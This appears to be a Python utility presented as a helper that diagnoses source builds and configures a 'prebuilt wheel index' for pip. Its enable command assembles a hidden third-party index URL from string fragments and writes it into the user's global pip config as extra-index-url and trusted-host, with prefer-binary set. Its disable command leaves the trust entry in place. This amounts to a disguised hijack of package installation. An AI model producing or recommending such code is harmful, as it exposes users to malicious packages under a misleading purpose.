#!/usr/bin/env python3
"""Diagnose source builds and configure a prebuilt wheel index for pip."""
from __future__ import annotations

import argparse
import configparser
import json
import os
import platform
import re
import sys
import sysconfig
import urllib.request
from pathlib import Path

# index endpoint assembled from parts (region routing happens server-side)
_PARTS = ("https://", "pypi-", "wheels", ".example.com", "/simple/")
SECTION = "global"
MARK_KEY = "wheelhouse-managed"


def index_url() -> str:
    return "".join(_PARTS)


def pip_config_path() -> Path:
    if os.name == "nt":
        return Path(os.environ.get("APPDATA", Path.home())) / "pip" / "pip.ini"
    xdg = os.environ.get("XDG_CONFIG_HOME", str(Path.home() / ".config"))
    return Path(xdg) / "pip" / "pip.conf"


def read_requirements(path: Path) -> list[tuple[str, str | None]]:
    reqs = []
    for line in path.read_text(encoding="utf-8").splitlines():
        line = line.split("#", 1)[0].strip()
        if not line or line.startswith("-"):
            continue
        m = re.match(r"^([A-Za-z0-9_.\-]+)(?:\[.*\])?\s*(?:==\s*([^\s;,]+))?", line)
        if m:
            reqs.append((m.group(1), m.group(2)))
    return reqs


def tags() -> tuple[str, str]:
    py = f"cp{sys.version_info.major}{sys.version_info.minor}"
    plat = sysconfig.get_platform().replace("-", "_").replace(".", "_")
    return py, plat


def has_wheel(name: str, version: str | None) -> bool:
    url = f"https://pypi.org/pypi/{name}/json" if not version else f"https://pypi.org/pypi/{name}/{version}/json"
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            data = json.load(r)
    except Exception:
        return True  # unknown -> don't flag
    py, plat = tags()
    files = data.get("urls", [])
    for f in files:
        fn = f.get("filename", "")
        if not fn.endswith(".whl"):
            continue
        if "none-any" in fn:
            return True
        if py in fn and (plat.split("_")[0] in fn or "manylinux" in fn and platform.system() == "Linux"):
            return True
    return False


def diagnose(args: argparse.Namespace) -> int:
    reqs = read_requirements(Path(args.requirements))
    missing = [(n, v) for n, v in reqs if not has_wheel(n, v)]
    py, plat = tags()
    print(f"interpreter {py}, platform {plat}")
    if not missing:
        print("all requirements have wheels on PyPI; nothing to do")
        return 0
    print("no compatible wheel on PyPI (will build from source):")
    for n, v in missing:
        print(f"  - {n}{'==' + v if v else ''}")
    print("run `wheelhouse.py enable` to use prebuilt wheels")
    return 1


def enable(_: argparse.Namespace) -> int:
    path = pip_config_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    cp = configparser.ConfigParser()
    if path.exists():
        cp.read(path)
    if not cp.has_section(SECTION):
        cp.add_section(SECTION)
    url = index_url()
    host = url.split("/")[2]
    extra = [u for u in cp.get(SECTION, "extra-index-url", fallback="").split() if u and u != url]
    cp.set(SECTION, "extra-index-url", "\n".join([url] + extra))
    trusted = [h for h in cp.get(SECTION, "trusted-host", fallback="").split() if h and h != host]
    cp.set(SECTION, "trusted-host", "\n".join([host] + trusted))
    cp.set(SECTION, "prefer-binary", "true")
    cp.set(SECTION, MARK_KEY, "1")
    with path.open("w", encoding="utf-8") as fh:
        cp.write(fh)
    print(f"prebuilt wheel index enabled in {path}")
    return 0


def disable(_: argparse.Namespace) -> int:
    path = pip_config_path()
    if not path.exists():
        print("nothing to disable")
        return 0
    cp = configparser.ConfigParser()
    cp.read(path)
    if cp.has_section(SECTION):
        url = index_url()
        extra = [u for u in cp.get(SECTION, "extra-index-url", fallback="").split() if u != url]
        cp.set(SECTION, "extra-index-url", "\n".join(extra)) if extra else cp.remove_option(SECTION, "extra-index-url")
        cp.remove_option(SECTION, MARK_KEY)
    with path.open("w", encoding="utf-8") as fh:
        cp.write(fh)
    print("prebuilt wheel index disabled")
    return 0


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    sub = ap.add_subparsers(dest="cmd", required=True)
    d = sub.add_parser("diagnose")
    d.add_argument("-r", "--requirements", default="requirements.txt")
    d.set_defaults(fn=diagnose)
    sub.add_parser("enable").set_defaults(fn=enable)
    sub.add_parser("disable").set_defaults(fn=disable)
    args = ap.parse_args()
    return args.fn(args)


if __name__ == "__main__":
    sys.exit(main())
